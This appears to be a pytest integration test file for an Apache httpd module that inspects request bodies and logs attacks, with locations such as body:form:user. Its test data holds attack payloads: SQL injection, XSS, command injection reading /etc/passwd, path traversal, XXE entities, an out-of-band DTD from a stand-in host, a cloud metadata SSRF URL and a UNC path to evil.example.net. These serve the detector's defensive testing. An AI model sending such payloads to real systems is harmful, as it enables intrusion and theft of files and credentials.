"""Request bodies: the module keeps the first LogWatchInspectBody bytes of
a body as the application reads it (an input filter) and classifies its
fields at log time. Attacks in form, multipart, JSON and XML bodies (also
sent as another Content-Type or none: read by their first bytes) sent
to a CGI application (mod_cgi) and through mod_proxy to a backend on
loopback are recorded with where they were (body:form:user, ...), an
XML body's DOCTYPE too (body:xml:!doctype, XXE); the
application gets every byte unchanged (its SHA-256 is compared), also
gzipped (mod_deflate), chunked, with Expect: 100-continue and for a
1 GiB upload, with the children's memory bounded. Aborted uploads and a
client that stops reading leave httpd serving.

Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \\
      /usr/bin/python3 -m pytest -q test/integration/test_body.py
"""
import gzip
import hashlib
import http.server
import os
import socket
import threading
import time

import pytest

import lwhttpd
import reliability_load as rl

CGI = os.path.join(lwhttpd.HERE, "data", "body", "echo.cgi")

FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
MP = "multipart/form-data; boundary=----lwBoundary7MA4YWxk"
BOUNDARY = b"----lwBoundary7MA4YWxk"

SQLI_FORM = b"user=admin%27+or+%271%27%3D%271%27--+&pw=x"
SQLI_JSON = (b'{"user": {"name": "x\\u0027 union select password from '
             b'users--", "id": 7}, "tags": ["a"]}')
XSS_XML = (b'<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.'
           b'xmlsoap.org/soap/envelope/"><s:Body><search><q>&lt;script&gt;'
           b'alert(document.cookie)&lt;/script&gt;</q></search></s:Body>'
           b'</s:Envelope>')


def multipart(parts):
    """parts: (name, value, filename or None)."""
    out = b""
    for name, value, fname in parts:
        out += b"--" + BOUNDARY + b"\r\n"
        out += b'Content-Disposition: form-data; name="' + name + b'"'
        if fname is not None:
            out += b'; filename="' + fname + b'"'
            out += b"\r\nContent-Type: application/octet-stream"
        out += b"\r\n\r\n" + value + b"\r\n"
    return out + b"--" + BOUNDARY + b"--\r\n"


def digest(body):
    return ("%d %s" % (len(body), hashlib.sha256(body).hexdigest())).encode()


def cgi_conf(root, extra=""):
    """mod_cgi with the echo application at /cgi/echo (and /nobody/echo,
    where LogWatchInspectBody is 0)."""
    return """LoadModule cgi_module {mods}/mod_cgi.so
ScriptAlias /cgi/ "{root}/cgi-bin/"
ScriptAlias /nobody/ "{root}/cgi-bin/"
<Directory "{root}/cgi-bin">
    Require all granted
</Directory>
<Location /nobody/>
    LogWatchInspectBody 0
</Location>
{extra}""".format(mods=lwhttpd.MODDIR, root=root, extra=extra)


def with_cgi(h, extra=""):
    os.makedirs(h.path("cgi-bin"), exist_ok=True)
    os.chmod(h.path("cgi-bin"), 0o755)
    with open(CGI, "rb") as src, open(h.path("cgi-bin", "echo"), "wb") as d:
        d.write(src.read())
    os.chmod(h.path("cgi-bin", "echo"), 0o755)
    h.extra += cgi_conf(h.root, extra)
    h.write_conf()
    return h


@pytest.fixture
def cgi(httpd_factory):
    """A server (each MPM) with the echo CGI application."""
    h = httpd_factory(start=False)
    with_cgi(h)
    return h.start()


def fields(rec, cat=None):
    return [r["field"] for r in rec["rules"]
            if cat is None or r["category"] == cat]


def record_for(h, marker, timeout=10.0):
    """The record of the request whose target holds marker."""
    return h.wait_for(lambda r: marker in r["uri"], timeout=timeout)


def post_attack(h, marker, ctype, body):
    """POST body to the echo CGI as ?t=marker; the application must get the
    body unchanged and the request must be recorded: its record."""
    st, resp = h.post("/cgi/echo?t=" + marker, body, ctype)
    assert st == 200 and resp.strip() == digest(body)
    rec = record_for(h, "t=" + marker)
    assert rec is not None, "no record for the %s body" % marker
    return rec


ATTACKS = [
    # (marker, content type, body, category, field)
    ("form", FORM, SQLI_FORM, "sqli", "body:form:user"),
    ("json", JSON, SQLI_JSON, "sqli", "body:json:$.user.name"),
    ("jsonkey", "application/vnd.api+json",
     b'{"data": {"<svg onload=alert(1)>": "v"}}', "xss",
     "body_names:json:$.data.<svg onload=alert(1)>"),
    ("xml", "application/soap+xml; charset=utf-8", XSS_XML, "xss",
     "body:xml:/s:Envelope/s:Body/search/q"),
    ("mpvalue", MP, multipart([(b"comment", b"hi", None),
                               (b"cmd", b"x; cat /etc/passwd", None)]),
     "rce", "body:multipart:cmd"),
    ("mpfname", MP, multipart([(b"up", b"just some text",
                                b"../../../../etc/passwd")]),
     "lfi", "body:multipart:up.filename"),
]


@pytest.mark.parametrize("marker,ctype,body,cat,field", ATTACKS,
                         ids=[a[0] for a in ATTACKS])
def test_body_attack_recorded_with_location(cgi, marker, ctype, body, cat,
                                            field):
    """An attack in a POST body is recorded with its category and where
    it was; the application got the body unchanged."""
    rec = post_attack(cgi, marker, ctype, body)
    assert cat in rec["categories"]
    assert field in fields(rec, cat), rec["rules"]
    assert rec["method"] == "POST"
    lwhttpd.check_record(rec)


def test_benign_bodies_and_file_content_not_flagged(cgi):
    """Benign bodies of each kind are not flagged (a text/plain note
    too), nor is an upload whose file CONTENT holds attacks (a file is
    data, only its name is inspected), nor an attack where
    LogWatchInspectBody is 0; an attack after them is."""
    benign = [
        (FORM, b"user=bob&pw=hunter2&remember=on&next=%2Faccount"),
        (JSON, b'{"user": {"name": "O\'Brien", "bio": "Member of the '
               b'teachers union since 2010"}, "n": [1, 2.5, true, null]}'),
        ("text/xml", b"<order><item qty='2'>Tea &amp; biscuits</item>"
                     b"</order>"),
        (MP, multipart([(b"title", b"Holiday photos", None),
                        (b"up", b"' union select password from users-- "
                         b"<script>alert(1)</script> ../../../../etc/passwd; "
                         b"cat /etc/shadow", b"notes.txt")])),
        ("text/plain", b"Hi, please call me back about order 4411 "
                       b"(two chairs & a table) - thanks!\n"),
        # rich text: a comment form's allowed markup, a block editor's save
        # (markup without active content is no attack in a body)
        (FORM, b"comment=See+%3Ca+href%3D%22https%3A%2F%2Fexample.com%2Fdocs"
               b"%22%3Ethe+%3Cb%3Esetup%3C%2Fb%3E+guide%3C%2Fa%3E.&author=Ana"),
        (JSON, b'{"id": 12, "content": "<!-- wp:image {\\"id\\":45} -->\\n'
               b'<figure class=\\"wp-block-image size-large\\"><img src=\\"'
               b'https://example.com/a.jpg\\" alt=\\"\\" class=\\"wp-image-45'
               b'\\"/></figure>\\n<!-- /wp:image -->", "status": "draft"}'),
    ]
    for i, (ctype, body) in enumerate(benign):
        st, resp = cgi.post("/cgi/echo?benign=%d" % i, body, ctype)
        assert st == 200 and resp.strip() == digest(body)
    st, resp = cgi.post("/nobody/echo?off=1", SQLI_FORM, FORM)
    assert st == 200 and resp.strip() == digest(SQLI_FORM)
    st, _ = cgi.post("/cgi/echo?after=1", SQLI_FORM, FORM)
    assert st == 200
    assert record_for(cgi, "after=1") is not None
    uris = [r["uri"] for r in cgi.records()]
    assert not [u for u in uris if "benign=" in u or "off=1" in u], uris


XXE_TEXT = (b'<?xml version="1.0"?>\n<!DOCTYPE r [\n <!ENTITY e SYSTEM '
            b'"file:///etc/hostname">\n]>\n<r><n>&e;</n></r>')
SNIFFED = [
    # (marker, content type or None, body, category, field)
    ("plainxxe", "text/plain", XXE_TEXT, "lfi", "body:xml:!doctype"),
    ("nojson", None, SQLI_JSON, "sqli", "body:json:$.user.name"),
    ("oddform", "Application/X-WWW-Form-Urlencoded ; charset=UTF-8",
     SQLI_FORM, "sqli", "body:form:user"),
    ("madeup", "application/x-whatever", SQLI_FORM, "sqli",
     "body:form:user"),
    ("mpjson", "multipart/form-data; boundary=zz", SQLI_JSON, "sqli",
     "body:json:$.user.name"),
    ("octtext", "application/octet-stream",
     b"1' union select password from users-- ", "sqli", "body:text"),
]
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00"
       + b"' union select password from users-- <script>alert(1)</script>"
       * 8)


def test_body_of_other_or_no_content_type_read_by_its_bytes(cgi):
    """Applications read bodies whatever the Content-Type says: a body of
    another type (text/plain, a made-up one, octet-stream), of none, or
    of an oddly written one is read by its first bytes and recorded with
    the kind it was read as; a binary upload (not text in its first
    bytes) is not inspected, whatever it holds after."""
    for marker, ctype, body, cat, field in SNIFFED:
        st, resp = cgi.post("/cgi/echo?t=" + marker, body, ctype)
        assert st == 200 and resp.strip() == digest(body)
        rec = record_for(cgi, "t=" + marker)
        assert rec is not None, "no record for the %s body" % marker
        assert field in fields(rec, cat), (marker, rec["rules"])
    st, resp = cgi.post("/cgi/echo?t=png", PNG, "application/octet-stream")
    assert st == 200 and resp.strip() == digest(PNG)
    st, _ = cgi.post("/cgi/echo?t=pngafter", SQLI_FORM, FORM)
    assert record_for(cgi, "t=pngafter") is not None
    assert not [r for r in cgi.records() if "t=png" in r["uri"]
                and "pngafter" not in r["uri"]]


XXE_RFI = [
    # (marker, content type, body, category, field)
    ("xxe", "application/xml",
     b'<?xml version="1.0"?>\n<!DOCTYPE r [\n <!ENTITY e SYSTEM '
     b'"file:///etc/hostname">\n]>\n<r><n>&e;</n></r>', "lfi",
     "body:xml:!doctype"),
    ("oob", "application/soap+xml",
     b'<!DOCTYPE s [<!ENTITY % d SYSTEM "http://oob.example.net/d.dtd"> %d;]>'
     b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope">'
     b'<s:Body><q>1</q></s:Body></s:Envelope>', "lfi", "body:xml:!doctype"),
    ("svg", MP, multipart([(b"avatar", b'<?xml version="1.0"?><!DOCTYPE svg '
                            b'[<!ENTITY x SYSTEM "file:///etc/hostname">]>'
                            b'<svg xmlns="http://www.w3.org/2000/svg">'
                            b'<text>&x;</text></svg>', b"me.svg")]),
     "lfi", "body:multipart:avatar.!doctype"),
    ("meta", JSON, b'{"profile": {"avatar_url": "http://[::ffff:a9fe:a9fe]'
                   b'/latest/meta-data/"}}', "rfi",
     "body:json:$.profile.avatar_url"),
    ("unc", FORM, b"page=%5C%5Cevil.example.net%40SSL%40443%5CDavWWWRoot%5Cx"
                  b".php&lang=en", "rfi", "body:form:page"),
]


def test_xxe_and_remote_inclusion_in_bodies(cgi):
    """An XML body's DOCTYPE with external entities, an uploaded SVG's,
    a metadata URL in JSON and a WebDAV UNC path in a form are recorded
    where they were; XML with a public DTD and no entity, SOAP without a
    DOCTYPE and ordinary URLs in bodies (webhooks, OAuth redirects,
    feeds, a blog's address) are not flagged."""
    benign = [
        ("application/xml", b'<?xml version="1.0" encoding="UTF-8"?>\n'
         b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.'
         b'apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict>'
         b'<key>URL</key><string>https://example.com/</string></dict></plist>'),
        ("application/xhtml+xml", b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML '
         b'1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
         b'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Tom &amp; '
         b'Jerry</p></body></html>'),
        ("text/xml", b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/'
         b'soap/envelope/"><soap:Body><Subscribe><Callback>https://shop.'
         b'example.com/hooks/stock</Callback></Subscribe></soap:Body>'
         b'</soap:Envelope>'),
        (MP, multipart([(b"logo", b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//'
                         b'EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.'
                         b'dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
                         b"logo.svg")])),
        (JSON, b'{"webhook": "https://hooks.example.com/services/T0/B0", '
               b'"redirect_uri": "https://app.example.com/oauth/callback", '
               b'"feed": "https://my-blog.example/feed.xml"}'),
        (FORM, b"author=Ana&url=https%3A%2F%2Fmy-blog.example%2F&comment=Nice"
               b"+post%2C+see+https%3A%2F%2Fexample.org%2Fa.txt"),
    ]
    for i, (ctype, body) in enumerate(benign):
        st, resp = cgi.post("/cgi/echo?clean=%d" % i, body, ctype)
        assert st == 200 and resp.strip() == digest(body)
    for marker, ctype, body, cat, field in XXE_RFI:
        st, resp = cgi.post("/cgi/echo?t=" + marker, body, ctype)
        assert st == 200 and resp.strip() == digest(body)
    for marker, ctype, body, cat, field in XXE_RFI:
        rec = record_for(cgi, "t=" + marker)
        assert rec is not None, "no record for the %s body" % marker
        assert field in fields(rec, cat), rec["rules"]
        lwhttpd.check_record(rec)
    uris = [r["uri"] for r in cgi.records()]
    assert not [u for u in uris if "clean=" in u], uris


def test_query_and_body_both_inspected(cgi):
    """A GET attack is recorded as args:NAME, a POST attack in the body as
    body:form:NAME: the location tells them apart."""
    assert cgi.get("/cgi/echo?q=%27+or+%271%27%3D%271%27--+") == 200
    st, _ = cgi.post("/cgi/echo?src=post", SQLI_FORM, FORM)
    assert st == 200
    get = cgi.wait_for(lambda r: r["method"] == "GET")
    post = record_for(cgi, "src=post")
    assert "args:q" in fields(get, "sqli")
    assert "body:form:user" in fields(post, "sqli")
    assert not [f for f in fields(post) if f.startswith("args:")]


def test_query_attack_and_body_attack_in_one_request(cgi):
    """A request flagged by its query before the application runs (the
    early pass for the response's evidence) is classified again once its
    body was read: the record has both."""
    st, _ = cgi.post("/cgi/echo?t=both&q=%3Csvg+onload%3Dalert(1)%3E",
                     SQLI_FORM, FORM)
    assert st == 200
    rec = record_for(cgi, "t=both")
    assert rec and "args:q" in fields(rec, "xss")
    assert "body:form:user" in fields(rec, "sqli"), rec["rules"]


def test_chunked_and_expect_continue(cgi):
    """A chunked body is inspected as the application read it (no chunk
    framing in it), and Expect: 100-continue gets its 100 Continue only
    when the application reads: the filter reads nothing ahead."""
    pieces = [SQLI_JSON[:10], SQLI_JSON[10:33], SQLI_JSON[33:]]
    st, resp = cgi.post("/cgi/echo?t=chunked", iter(pieces), JSON)
    assert st == 200 and resp.strip() == digest(SQLI_JSON)
    rec = record_for(cgi, "t=chunked")
    assert rec and "body:json:$.user.name" in fields(rec, "sqli")

    s = socket.create_connection(("127.0.0.1", cgi.port), timeout=20)
    try:
        s.sendall(b"POST /cgi/echo?t=expect HTTP/1.1\r\nHost: localhost\r\n"
                  b"Content-Type: " + FORM.encode() + b"\r\n"
                  b"Content-Length: %d\r\nExpect: 100-continue\r\n"
                  b"Connection: close\r\n\r\n" % len(SQLI_FORM))
        first = s.recv(4096)
        assert first.startswith(b"HTTP/1.1 100 Continue"), first
        s.sendall(SQLI_FORM)
        resp = first
        while True:
            b = s.recv(65536)
            if not b:
                break
            resp += b
    finally:
        s.close()
    assert b"HTTP/1.1 200" in resp and digest(SQLI_FORM) in resp
    rec = record_for(cgi, "t=expect")
    assert rec and "body:form:user" in fields(rec, "sqli")


def test_deflate_request_body(httpd_factory):
    """A gzip-compressed body (Content-Encoding: gzip, SetInputFilter
    DEFLATE) is inspected inflated, as the application reads it: the
    filter sits after mod_deflate's."""
    h = httpd_factory(start=False)
    with_cgi(h, """LoadModule deflate_module {mods}/mod_deflate.so
<Location /cgi/>
    SetInputFilter DEFLATE
</Location>
""".format(mods=lwhttpd.MODDIR))
    h.start()
    body = SQLI_JSON + b" " * 40000          # inflated size over its own
    st, resp = h.post("/cgi/echo?t=gzip", gzip.compress(body), JSON,
                      headers=[("Content-Encoding", "gzip")])
    assert st == 200 and resp.strip() == digest(body)
    rec = record_for(h, "t=gzip")
    assert rec and "body:json:$.user.name" in fields(rec, "sqli")


class Backend(http.server.BaseHTTPRequestHandler):
    """The application behind mod_proxy: reads the body (Content-Length or
    chunked) and answers its length and SHA-256."""
    protocol_version = "HTTP/1.1"

    def do_POST(self):
        h = hashlib.sha256()
        n = 0
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                if size == 0:
                    while self.rfile.readline() not in (b"\r\n", b"\n", b""):
                        pass
                    break
                b = self.rfile.read(size)
                self.rfile.readline()
                h.update(b)
                n += len(b)
        else:
            left = int(self.headers.get("Content-Length", "0"))
            while left:
                b = self.rfile.read(min(left, 1 << 20))
                if not b:
                    break
                h.update(b)
                n += len(b)
                left -= len(b)
        out = ("%d %s\n" % (n, h.hexdigest())).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    def log_message(self, *a):
        pass


@pytest.fixture
def backend():
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Backend)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv.server_address[1]
    srv.shutdown()
    srv.server_close()


def test_proxy_backend(httpd_factory, backend):
    """Through mod_proxy to a backend on loopback: the backend gets the
    body unchanged (also chunked), the attack is recorded with where it
    was."""
    h = httpd_factory(extra="""LoadModule proxy_module {mods}/mod_proxy.so
LoadModule proxy_http_module {mods}/mod_proxy_http.so
ProxyPass /app/ http://127.0.0.1:{port}/
""".format(mods=lwhttpd.MODDIR, port=backend))
    for marker, ctype, body, cat, field in ATTACKS:
        st, resp = h.post("/app/x?t=" + marker, body, ctype)
        assert st == 200 and resp.strip() == digest(body), marker
        rec = record_for(h, "t=" + marker)
        assert rec and field in fields(rec, cat), (marker, rec)
    st, resp = h.post("/app/x?t=pchunked", iter([SQLI_FORM[:7],
                                                 SQLI_FORM[7:]]), FORM)
    assert st == 200 and resp.strip() == digest(SQLI_FORM)
    rec = record_for(h, "t=pchunked")
    assert rec and "body:form:user" in fields(rec, "sqli")


def test_post_to_the_leak_pages(httpd_factory, mpm):
    """The response-evidence tests' vulnerable pages (test_leak.py),
    attacked by POST: a traversal in a form body and in a JSON body is
    recorded with its body location, next to the GET attack's args."""
    import test_leak
    h = test_leak.make(httpd_factory, mpm)
    st, _ = h.post("/app/vuln.cgi?via=form",
                   b"file=../../../../../../../../etc/passwd", FORM)
    assert st == 200
    st, _ = h.post("/app/vuln.cgi?via=json",
                   b'{"file": "../../../../../../../../etc/passwd"}', JSON)
    assert st == 200
    assert h.get("/app/vuln.cgi?file=../../../../../../../../etc/passwd") \
        == 200
    form = record_for(h, "via=form")
    js = record_for(h, "via=json")
    get = h.wait_for(lambda r: r["method"] == "GET" and "file=" in r["uri"])
    assert form and "body:form:file" in fields(form, "lfi"), form
    assert js and "body:json:$.file" in fields(js, "lfi"), js
    assert get and "args:file" in fields(get, "lfi"), get


def healthy(h):
    assert h.get("/index.html") == 200
    assert not h.crashes()


def test_aborted_upload_and_client_that_stops_reading(cgi):
    """A client that sends half its announced body and closes, and one
    that sends its body but never reads the (large) answer, leave httpd
    serving; the aborted request is still inspected on what arrived."""
    s = socket.create_connection(("127.0.0.1", cgi.port), timeout=20)
    s.sendall(b"POST /cgi/echo?t=aborted HTTP/1.1\r\nHost: localhost\r\n"
              b"Content-Type: " + FORM.encode() + b"\r\n"
              b"Content-Length: 10485760\r\n\r\n" + SQLI_FORM + b"&pad="
              + b"a" * (1 << 20))
    time.sleep(0.3)
    s.close()
    rec = record_for(cgi, "t=aborted", timeout=25)
    assert rec and "body:form:user" in fields(rec, "sqli")
    healthy(cgi)

    s = socket.create_connection(("127.0.0.1", cgi.port), timeout=20)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.sendall(b"POST /cgi/echo?out=33554432 HTTP/1.1\r\nHost: localhost\r\n"
              b"Content-Type: " + FORM.encode() + b"\r\n"
              b"Content-Length: %d\r\n\r\n" % len(SQLI_FORM) + SQLI_FORM)
    time.sleep(1.0)
    s.close()
    healthy(cgi)
    st, resp = cgi.post("/cgi/echo?t=after", SQLI_FORM, FORM)
    assert st == 200 and resp.strip() == digest(SQLI_FORM)


def photo(n, seed=0):
    """n bytes of a JPEG-like file: binary, with lines that come close to
    the delimiter ("--" + BOUNDARY cut short, or with a byte changed)."""
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
    block = bytearray(hashlib.sha256(b"%d" % seed).digest() * 2048)
    near = [b"\r\n--" + BOUNDARY[:-1], b"\n--" + BOUNDARY[:-1] + b"X",
            b"\r\n-" + BOUNDARY]
    for i, s in enumerate(near):
        block[1000 + i * 9000:1000 + i * 9000 + len(s)] = s
    out = bytearray(head)
    while len(out) < n:
        out += block
    return bytes(out[:n])


def mp_file_then(fields_after, size, fname=b"photo.jpg", close=True,
                 before=(), data=None):
    """A multipart body: fields before, a file part (data, or size bytes
    of photo), then fields_after (name, value)."""
    body = b""
    for name, value in before:
        body += (b"--" + BOUNDARY + b'\r\nContent-Disposition: form-data; '
                 b'name="' + name + b'"\r\n\r\n' + value + b"\r\n")
    body += (b"--" + BOUNDARY + b'\r\nContent-Disposition: form-data; '
             b'name="up"; filename="' + fname + b'"\r\nContent-Type: '
             b"image/jpeg\r\n\r\n" + (photo(size) if data is None else data)
             + b"\r\n")
    for name, value in fields_after:
        body += (b"--" + BOUNDARY + b'\r\nContent-Disposition: form-data; '
                 b'name="' + name + b'"\r\n\r\n' + value + b"\r\n")
    return body + (b"--" + BOUNDARY + b"--\r\n" if close else b"")


def pieces(body, sizes=(1, 7, 4093, 17, 65536 + 3)):
    """body in pieces of the sizes in turn: a delimiter falls across the
    reads the filter sees."""
    out, i, k = [], 0, 0
    while i < len(body):
        n = sizes[k % len(sizes)]
        out.append(body[i:i + n])
        i += n
        k += 1
    return out


def test_field_after_file_larger_than_capture(cgi):
    """The capture keeps a multipart body's headers and field values, not
    its files' contents: a field after a file far larger than
    LogWatchInspectBody (10 MiB; 128 KiB kept) is inspected, whether the
    body comes whole or chunked in odd pieces (the delimiter split across
    reads), with a quoted boundary and LF-only lines, without the close
    delimiter, or after a line inside the file that only looks like a
    delimiter; the file is no cut (no evasion signal). The application
    gets every byte unchanged (its SHA-256). A field with no file name is
    a field however long: cut inside it, the request gets the evasion
    signal (800000) as a form does."""
    attack = (b"cmd", b"x; cat /etc/passwd")
    cases = [
        ("mpbig", MP, mp_file_then([(b"title", b"Holiday"), attack],
                                   10 << 20), False),
        ("mpchunk", MP, mp_file_then([attack], 1 << 20), True),
        ("mpquoted", 'multipart/form-data; charset=utf-8; boundary="'
         + BOUNDARY.decode() + '"',
         mp_file_then([attack], 1 << 20).replace(b"\r\n", b"\n"), False),
        ("mpnoclose", MP, mp_file_then([attack], 1 << 20, close=False),
         False),
        # past LW_BODY_MAX_FIELDS the label is the kind's alone
        ("mpmany", MP, mp_file_then([attack], 300 << 10, before=[
            (b"f%d" % i, b"v") for i in range(1100)]), False),
    ]
    for marker, ctype, body, chunked in cases:
        st, resp = cgi.post("/cgi/echo?t=" + marker,
                            pieces(body) if chunked else body, ctype,
                            chunked=chunked, timeout=120)
        assert st == 200 and resp.strip() == digest(body), marker
        rec = record_for(cgi, "t=" + marker, timeout=20)
        want = "body:multipart" if marker == "mpmany" else "body:multipart:cmd"
        assert rec and want in fields(rec, "rce"), (marker, rec)
        assert not [r for r in rec["rules"] if r["id"] == 800000], rec
    # a field without a file name, longer than the capture, then the attack
    body = mp_file_then([(b"note", b"a" * (200 << 10)), attack], 1 << 20)
    st, resp = cgi.post("/cgi/echo?t=mplongfield", body, MP)
    assert st == 200 and resp.strip() == digest(body)
    rec = record_for(cgi, "t=mplongfield")
    assert rec and [r for r in rec["rules"] if r["id"] == 800000], rec
    healthy(cgi)


def test_benign_uploads_after_large_files_stay_clean(cgi):
    """Uploads whose files are larger than the capture, with ordinary
    fields after them (a photo form, an SVG with an XML prolog, two files
    and a long description), are not flagged."""
    svg = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://'
           b'www.w3.org/2000/svg" width="10" height="10">' + b"<g/>" * 100000
           + b"</svg>")
    uploads = [
        mp_file_then([(b"title", b"Holiday at the beach, day 3"),
                      (b"description", b"Sunset over the bay; the kids "
                       b"built a sand castle & we ate fish (2 plates)."),
                      (b"tags", b"beach,sunset,family"),
                      (b"album_id", b"1042"), (b"csrf", b"a1B2c3D4e5F6")],
                     5 << 20, before=[(b"MAX_FILE_SIZE", b"10485760")]),
        mp_file_then([(b"title", b"logo.svg")], 0, data=svg),
        mp_file_then([(b"notes", b"Second scan attached. Select the "
                       b"union-approved version, please; thanks!\n" * 40)],
                     2 << 20, before=[(b"id", b"7")]),
    ]
    for i, body in enumerate(uploads):
        st, resp = cgi.post("/cgi/echo?benignup=%d" % i, body, MP,
                            timeout=60)
        assert st == 200 and resp.strip() == digest(body)
    cgi.get("/index.html?m=upmarker&id=1%27+union+select+1--")
    assert cgi.wait_for(lambda r: "m=upmarker" in r["uri"]) is not None
    assert not [r["uri"] for r in cgi.records() if "benignup=" in r["uri"]]


def test_aborted_multipart_upload(cgi):
    """A multipart upload cut off inside its file, and one cut inside the
    delimiter after it, leave httpd serving."""
    body = mp_file_then([(b"cmd", b"x; cat /etc/passwd")], 1 << 20)
    cut_at = [len(body) // 2, body.rindex(b"--" + BOUNDARY) - 5]
    for i, at in enumerate(cut_at):
        s = socket.create_connection(("127.0.0.1", cgi.port), timeout=20)
        s.sendall(b"POST /cgi/echo?t=mpabort%d HTTP/1.1\r\nHost: localhost"
                  b"\r\nContent-Type: " + MP.encode() + b"\r\n"
                  b"Content-Length: %d\r\n\r\n" % len(body) + body[:at])
        time.sleep(0.3)
        s.close()
    healthy(cgi)
    st, resp = cgi.post("/cgi/echo?t=mpafter", body, MP)
    assert st == 200 and resp.strip() == digest(body)
    rec = record_for(cgi, "t=mpafter")
    assert rec and "body:multipart:cmd" in fields(rec, "rce")
    healthy(cgi)


def test_inspect_body_directive_errors(httpd_factory):
    """A bad LogWatchInspectBody stops httpd -t with the directive, the
    value and the range."""
    for bad in ("-1", "16q", "2G", "1.5k"):
        h = httpd_factory(start=False,
                          extra='LogWatchInspectBody "%s"\n' % bad)
        p = h.configtest()
        assert p.returncode != 0
        assert "LogWatchInspectBody" in p.stderr and "from 0 to" in p.stderr, \
            p.stderr
    h = httpd_factory(start=False, extra="LogWatchInspectBody 64k\n")
    assert h.configtest().returncode == 0


GIB = 1 << 30


GIB_TAIL = (b"\r\n--" + BOUNDARY + b'\r\nContent-Disposition: form-data; '
            b'name="cmd"\r\n\r\nx; cat /etc/passwd\r\n--' + BOUNDARY
            + b"--\r\n")
GIB_KINDS = {
    # kind: (content type, bytes before the blob, after it, the field
    # flagged, its category)
    "form": (FORM, SQLI_FORM + b"&blob=", b"", "body:form:user", "sqli"),
    # the attack after a 1 GiB file: the capture skips the file's bytes
    "multipart": (MP, b"--" + BOUNDARY + b'\r\nContent-Disposition: '
                  b'form-data; name="up"; filename="disk.img"\r\n'
                  b"Content-Type: application/octet-stream\r\n\r\n",
                  GIB_TAIL, "body:multipart:cmd", "rce"),
}


@pytest.mark.parametrize("kind", sorted(GIB_KINDS))
def test_gigabyte_upload_streams_through(kind):
    """1 GiB of form body, or a 1 GiB file with an attack field after it,
    generated on the fly, reaches the CGI application unchanged (its
    SHA-256), the attack is recorded, and no httpd child grows by more
    than 64 MiB on the way (VmHWM, the peak, against VmRSS before): the
    filter keeps 128 KiB and steps aside (a form), or reads on without
    keeping the file's bytes (multipart)."""
    ctype, head, tail, field, cat = GIB_KINDS[kind]
    h = lwhttpd.Httpd(mpm="prefork")
    try:
        # httpd's default LimitRequestBody is 1 GiB: this one is just over
        with_cgi(h, "LimitRequestBody 0\n")
        h.start()
        assert h.get("/index.html") == 200
        kids = rl.children(h.pid())
        before = {k: rl.rss_kb(k) for k in kids}
        block = bytearray(os.urandom(1 << 20))
        want = hashlib.sha256()

        def gen():
            yield head
            want.update(head)
            for i in range(GIB >> 20):
                block[:8] = i.to_bytes(8, "little")
                b = bytes(block)
                want.update(b)
                yield b
            yield tail
            want.update(tail)
        t0 = time.time()
        st, resp = h.post("/cgi/echo?t=gib", gen(), ctype, timeout=300)
        secs = time.time() - t0
        assert st == 200
        assert resp.strip() == ("%d %s" % (GIB + len(head) + len(tail),
                                           want.hexdigest())).encode()
        rec = record_for(h, "t=gib")
        assert rec and field in fields(rec, cat), rec
        assert not [r for r in rec["rules"] if r["id"] == 800000] \
            or kind == "form", rec
        grown = {k: hwm_kb(k) - before[k] for k in kids if k in before
                 and hwm_kb(k)}
        print("1 GiB %s upload: %.1f s; children's peak RSS growth (KiB): %s"
              % (kind, secs, grown))
        # the same bound under ASan: the copy is 128 KiB in either pass
        # (measured: +0.2 MiB normal, +1.5 MiB ASan)
        assert grown and max(grown.values()) < 64 * 1024, grown
        healthy(h)
    finally:
        h.finish()


def hwm_kb(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for l in f:
                if l.startswith("VmHWM:"):
                    return int(l.split()[1])
    except OSError:
        pass
    return 0
